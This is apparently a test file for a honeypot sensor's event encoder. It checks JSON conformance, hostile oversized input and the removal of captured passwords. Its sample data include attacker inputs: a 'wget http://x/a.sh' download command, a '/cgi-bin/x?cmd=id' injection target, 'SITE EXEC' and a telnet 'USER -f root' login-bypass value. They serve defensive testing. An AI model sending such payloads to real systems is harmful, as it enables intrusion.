import { assert, assertEquals } from "@std/assert";
import { encodeEvent, type Scope, type SensorIdentity } from "../../lib/events/ecs.ts";
import { ACTIONS, type EventId, type EventMap } from "../../lib/events/event.ts";
import { escapeBytes } from "../../lib/net/escape.ts";
import { assertConforms } from "../support/conformance.ts";

const SENSOR: SensorIdentity = { name: "edge-1", version: "1.2.3", secrets: "plain", salt: "aa" };

function scope(): Scope {
  return {
    provider: "ftp-2",
    kind: "ftp",
    sessionId: "01J00000000000000000000000",
    peer: { ip: "203.0.113.7", port: 40000 },
    local: { ip: "192.0.2.1", port: 21 },
  };
}

function encode<K extends EventId>(
  id: K,
  data: EventMap[K],
  sensor: SensorIdentity = SENSOR,
  where: Scope = scope(),
) {
  const stamp = { id: "01J00000000000000000000001", sequence: 7, timeMs: 1_795_296_000_123 };
  return assertConforms(encodeEvent(stamp, where, { id, data, sensor }).json);
}

/** One of each, with everything that it may have; long and odd where a peer decides. */
const LONG = escapeBytes(new Uint8Array(20_000).fill(0xff));
/** What JSON makes longest: a backslash is four there, for one that the peer sent. */
const SLASHES = escapeBytes(new Uint8Array(300_000).fill(0x5c));
const LONG_KEY = {
  type: SLASHES,
  sha256: "SHA256:x",
  bits: 16_384,
  blob: new Uint8Array(100_000),
  algorithm: SLASHES,
  signed: true,
  signatureValid: false,
};
const LONG_LISTS = {
  kexAlgorithms: Array(1000).fill(SLASHES),
  hostKeyAlgorithms: Array(100_000).fill("\\\\"),
  ciphersClientToServer: Array(1000).fill('"'.repeat(60)),
  ciphersServerToClient: Array(1000).fill('"'.repeat(60)),
  macsClientToServer: Array(1000).fill('"'.repeat(60)),
  macsServerToClient: Array(1000).fill('"'.repeat(60)),
  compressionClientToServer: Array(1000).fill(SLASHES),
  compressionServerToClient: Array(1000).fill('"'.repeat(60)),
  languagesClientToServer: Array(1000).fill('"'),
  languagesServerToClient: Array(1000).fill(""),
};
const SAMPLES: { [K in EventId]: EventMap[K][] } = {
  "session.open": [{}],
  "session.close": [{
    durationNs: 1_500_000_000,
    bytesIn: 3,
    bytesOut: 4,
    reason: "idle",
    credentials: 1,
    commands: 2,
    payloads: 0,
    firstBytes: new Uint8Array([1, 2, 255]),
  }],
  "limit.hit": [{ limit: "sessions", max: 5, refused: 9 }, { limit: "line_bytes", max: 100 }],
  "auth.attempt": [
    { method: "password", username: "root", secret: "123456" },
    { method: "ntlmv2", username: LONG, secret: LONG, domain: LONG, hash: LONG, hashcatMode: 5600 },
    { method: "publickey", username: "a", publicKey: { type: "ssh-rsa", sha256: "SHA256:x" } },
    { method: "none", username: SLASHES, service: SLASHES },
    {
      method: "password",
      username: SLASHES,
      secret: SLASHES,
      newSecret: SLASHES,
      service: SLASHES,
    },
    {
      method: "keyboard-interactive",
      username: SLASHES,
      secret: SLASHES,
      responses: Array(1000).fill(SLASHES),
      service: SLASHES,
    },
    {
      method: "hostbased",
      username: SLASHES,
      publicKey: LONG_KEY,
      service: SLASHES,
      clientHost: SLASHES,
      clientUser: SLASHES,
    },
  ],
  "command": [
    { verb: "SITE", argument: "EXEC ls", reply: "530", changes: true },
    { verb: LONG, argument: LONG },
    { verb: "X", argument: "a ".repeat(4000) },
  ],
  "http.request": [
    {
      method: "GET",
      target: "/",
      version: "1.1",
      headers: [["Host", "x"], ["User-Agent", "curl/8"]],
      body: new Uint8Array(0),
      bodyBytes: 0,
      status: 200,
    },
    {
      method: LONG,
      target: LONG,
      version: "1.1",
      headers: Array.from({ length: 500 }, () => [LONG, LONG] as const),
      body: new Uint8Array(50_000),
      bodyBytes: 1e9,
      bodySha256: "00",
      status: 0,
      attack: true,
      credentials: true,
    },
  ],
  "payload": [{
    name: LONG,
    mimeType: LONG,
    bytes: new Uint8Array(100_000),
    size: 1e6,
    sha256: "ff",
  }],
  "telnet.client": [
    { options: ["DO 3"], environment: [["USER", "-f root"]], window: [80, 24] },
    {
      options: Array(5000).fill(LONG),
      environment: Array.from({ length: 500 }, () => [LONG, LONG] as const),
      terminalType: LONG,
      terminalSpeed: LONG,
    },
  ],
  "lure.touched": [{ lure: "env", place: "/.env" }],
  "breadcrumb.used": [
    { lure: "env", place: "/.env", username: "root", method: "password" },
    {
      lure: "env",
      place: LONG,
      username: LONG,
      method: "mysql-native",
      takenBy: { sessionId: "01J", ip: "203.0.113.7", decoy: "web", timeMs: 1e12 },
    },
  ],
  "ssh.client": [
    { clientVersion: "SSH-2.0-Go" },
    {
      clientVersion: SLASHES,
      hassh: "92674389fa1e47a27ddd8d9b63ecd42b",
      hasshAlgorithms: SLASHES,
      ...LONG_LISTS,
      firstKexPacketFollows: true,
      chosen: { kex: SLASHES, hostKey: SLASHES, cipherClientToServer: SLASHES },
    },
  ],
  "tls.client-hello": [
    { notTls: "no-record", firstBytes: new Uint8Array(100_000), established: false },
    { ciphers: [0x1301], alpn: ["h2"], versions: ["1.3"], established: true, version: "1.3" },
    {
      ja3: "92674389fa1e47a27ddd8d9b63ecd42b",
      ja3Source: LONG,
      ja4: "t13d1516h2_8daaf6152771_e5627efa2ab1",
      serverName: SLASHES,
      alpn: Array(30_000).fill(LONG.slice(0, 1020)),
      versions: Array(127).fill("0x7f1c"),
      ciphers: Array(32_000).fill(0xffff),
      extensions: Array(16_000).fill(0xffff),
      groups: Array(32_000).fill(0xffff),
      signatureAlgorithms: Array(32_000).fill(0xffff),
      grease: true,
      sslv2: true,
      malformed: LONG,
    },
  ],
  "protocol.error": [{ offset: 5, expected: "a length", firstBytes: new Uint8Array(10_000) }],
  "service.login": [
    { username: LONG, success: false },
    { username: "op", success: true, role: "operator" },
  ],
  "service.probe": [{ detail: LONG, firstBytes: new Uint8Array([22]) }],
  "sensor.started": [{ version: "1", decoys: 2, listeners: 3 }],
  "sensor.stopped": [{ reason: "SIGTERM", uptimeMs: 5 }],
  "config.reloaded": [{ started: ["a"], stopped: [], kept: ["b", "c"] }],
  "sensor.degraded": [{ component: "journal", detail: "disk full" }],
  "sensor.recovered": [{ component: "journal", detail: "disk full", lost: 3 }],
  "sensor.silent": [{ sensor: "edge-1", lastSeenMs: 1_700_000_000_000 }],
  "sensor.returned": [{ sensor: "edge-1", silentMs: 301_000 }],
  "sink.failing": [{ name: "web", kind: "webhook", detail: LONG, failures: 2, lost: 0 }],
  "sink.recovered": [{ name: "web", kind: "webhook", detail: "refused", failures: 9, lost: 4 }],
  "sink.test": [{ name: "web", kind: "webhook" }],
};

Deno.test("encodeEvent() makes every event conform, whatever a peer sent", async (t) => {
  for (const [id, samples] of Object.entries(SAMPLES)) {
    await t.step(id, () => {
      assert(samples.length > 0);
      for (const data of samples) {
        for (const secrets of ["plain", "sha256", "off"] as const) {
          const event = encode(id as EventId, data, { ...SENSOR, secrets });
          assertEquals(event.event.action, ACTIONS[id as EventId]);
          assertEquals(event.event.kind, event.event.severity >= 70 ? "alert" : "event");
        }
        const own = { provider: "sensor", kind: "sensor" };
        encode(id as EventId, data, SENSOR, own);
      }
    });
  }
});

Deno.test("encodeEvent() stamps identity, time and addresses", () => {
  const event = encode("session.open", {});
  assertEquals(event["@timestamp"], "2026-11-21T21:20:00.123Z");
  assertEquals(event.source, { ip: "203.0.113.7", port: 40000 });
  assertEquals(event.destination, { ip: "192.0.2.1", port: 21 });
  assertEquals(event.event.provider, "ftp-2");
  assertEquals(event.event.dataset, "duckblind.ftp");
  assertEquals(event.event.sequence, 7);
  assertEquals(event.related, { ip: ["203.0.113.7", "192.0.2.1"] });
  assertEquals(event.duckblind.session.id, "01J00000000000000000000000");
  assertEquals(event.message, "FTP connection from 203.0.113.7");
});

Deno.test("encodeEvent() says in a sentence what a credential was", () => {
  const event = encode("auth.attempt", { method: "password", username: "root", secret: "123456" });
  assertEquals(event.message, 'FTP login as "root" with "123456" from 203.0.113.7');
  assertEquals(event.user.name, "root");
  assertEquals(event.duckblind.credential.password, "123456");
  assertEquals(event.threat.technique.id, ["T1110"]);
});

Deno.test("encodeEvent() keeps a placeholder that a peer sent as it is", () => {
  const data = { method: "password", username: "{from}", secret: "{decoy}" } as const;
  assertEquals(
    encode("auth.attempt", data).message,
    'FTP login as "{from}" with "{decoy}" from 203.0.113.7',
  );
});

Deno.test("encodeEvent() leaves no password anywhere with secrets sha256 and off", () => {
  for (const secrets of ["sha256", "off"] as const) {
    const sensor = { ...SENSOR, secrets };
    const login = encode(
      "auth.attempt",
      { method: "form", username: "u", secret: "hunter2", hash: "hunter2" },
      sensor,
    );
    assertEquals(JSON.stringify(login).includes("hunter2"), false);
    assertEquals("password_sha256" in login.duckblind.credential, secrets === "sha256");
    const request = encode("http.request", {
      method: "POST",
      target: "/login?p=hunter2",
      version: "1.1",
      headers: [["Authorization", "Basic hunter2"], ["Cookie", "hunter2"]],
      body: new TextEncoder().encode("p=hunter2"),
      bodyBytes: 9,
      bodySha256: "00",
      status: 200,
      credentials: true,
    }, sensor);
    assertEquals(JSON.stringify(request).includes("hunter2"), false);
  }
});

Deno.test("encodeEvent() leaves no password anywhere that nobody understood as one", () => {
  const bytes = new TextEncoder().encode("USER a\r\nPASS hunter2");
  const request = {
    method: "POST",
    target: "/",
    version: "1.1",
    headers: [],
    body: new Uint8Array(),
    bodyBytes: 0,
    status: 400,
  };
  const body = (text: string) => ({
    ...request,
    body: new TextEncoder().encode(text),
    bodyBytes: text.length,
    bodySha256: "6e" + "0".repeat(62),
  });
  const samples: [EventId, EventMap[EventId]][] = [
    ["session.close", {
      durationNs: 1,
      bytesIn: 1,
      bytesOut: 1,
      reason: "peer",
      credentials: 0,
      commands: 0,
      payloads: 0,
      firstBytes: bytes,
    }],
    ["protocol.error", { offset: 1, expected: "a length", firstBytes: bytes }],
    ["service.probe", { detail: "unknown words before login", firstBytes: bytes }],
    ["telnet.client", { options: [], environment: [["MY_PASSWORD", "hunter2"]] }],
    ...["Authorization", "Cookie", "X-Api-Key", "X-Auth-Token", "x-session-id"].map((name) =>
      ["http.request", { ...request, headers: [[name, "hunter2"]] }] as [EventId, EventMap[EventId]]
    ),
    ["http.request", { ...request, headers: [["Referer", "http://x/?password=hunter2"]] }],
    ["http.request", { ...request, target: "http://u:hunter2@x/" }],
    ["http.request", { ...request, target: "/x?token=hunter2" }],
    ["http.request", body('{"Password": "hunter2"')],
    ["http.request", body("<password>hunter2</password>")],
  ];
  for (const secrets of ["sha256", "off"] as const) {
    for (const [id, data] of samples) {
      const text = JSON.stringify(encode(id, data, { ...SENSOR, secrets }));
      for (const trace of ["hunter2", "first_bytes", "6e00"]) {
        assertEquals(text.includes(trace), false, `${id} ${trace}: ${text}`);
      }
      assertEquals(/hunter2|first_bytes/.test(JSON.stringify(encode(id, data))), true);
    }
  }
});

Deno.test("encodeEvent() still tells with secrets off what holds none", () => {
  const event = encode("http.request", {
    method: "POST",
    target: "/cgi-bin/x?cmd=id",
    version: "1.1",
    headers: [["Host", "x"], ["Referer", "http://x/?a=1"]],
    body: new TextEncoder().encode("wget http://x/a.sh"),
    bodyBytes: 18,
    bodySha256: "00",
    status: 404,
  }, { ...SENSOR, secrets: "off" });
  assertEquals(event.url.original, "/cgi-bin/x?cmd=id");
  assertEquals(event.http.request.body.content, "wget http://x/a.sh");
  assertEquals(event.duckblind.http.headers[1].value, "http://x/?a=1");
  assertEquals(event.duckblind.http.body_sha256, "00");
});

Deno.test("encodeEvent() says that a text was cut, and how long it was", () => {
  const event = encode("auth.attempt", { method: "password", username: "x", secret: LONG });
  const { password, password_truncated, password_bytes } = event.duckblind.credential;
  assertEquals(password.length <= 8192, true);
  assertEquals(password.length % 4, 0, "no escape is cut in half");
  assertEquals([password_truncated, password_bytes], [true, 80_000]);
});

Deno.test("encodeEvent() writes IPv6 as such", () => {
  const where = { ...scope(), peer: { ip: "2001:db8::1", port: 1 }, local: { ip: "::1", port: 2 } };
  assertEquals(encode("session.open", {}, SENSOR, where).network.type, "ipv6");
});
